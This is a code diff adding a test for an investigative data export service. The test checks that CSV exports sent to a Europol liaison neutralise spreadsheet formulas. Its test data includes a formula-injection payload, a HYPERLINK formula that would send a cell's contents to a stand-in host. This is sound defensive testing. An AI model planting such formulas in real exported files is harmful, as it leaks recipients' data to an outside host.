@@ -140,6 +140,21 @@ describe('exports for the Europol liaison', () => {
     expect(JSON.parse(strFromU8(files['manifest.json']!)).sha256).toBe(result.contentSha256);
   });
 
+  it('writes CSV text a spreadsheet would run as a formula as text, and phone numbers as they are', async () => {
+    const writer = await svc.sdk(ingest);
+    const formula = '=HYPERLINK("http://x.example/?q="&A1,"open")';
+    const who = (await writer.UpsertPerson({ input: { name: formula, roles: ['OFFENDER'], provenance: { reportId: w.reports.nca } } })).upsertPerson.id;
+    const phone = (await writer.UpsertIdentifier({ input: { kind: 'Phone', value: '+44 7700 900777', provenance: { reportId: w.reports.nca } } })).upsertIdentifier.id;
+    await writer.Link({ type: 'HAS_IDENTIFIER', from: who, to: phone, provenance: { reportId: w.reports.nca } });
+    const sdk = await svc.sdk(liaison);
+    const { exportSubgraph } = await sdk.ExportSubgraph({ input: { seeds: [who], depth: 1, recipient: { kind: 'EUROPOL', name: 'Europol' }, purpose: 'formula guard', format: 'CSV' } });
+    const res = await fetch(new URL(exportSubgraph.downloadUrl, svc.url), { headers: { authorization: `Bearer ${await testToken(liaison)}` } });
+    const nodesCsv = strFromU8(unzipSync(new Uint8Array(await res.arrayBuffer()))['nodes.csv']!);
+    expect(nodesCsv).toContain(`"'=HYPERLINK(""http://x.example/?q=""&A1,""open"")"`);
+    expect(nodesCsv).not.toMatch(/(^|,)"?=HYPERLINK/m);
+    expect(nodesCsv).toMatch(/(^|,)\+447700900777(,|\r)/m);
+  });
+
   it('writes a Cypher script that recreates the same subgraph in an empty Neo4j', async () => {
     const { result, bytes } = await exportAs('CYPHER');
     const partner = await startTestNeo4j();
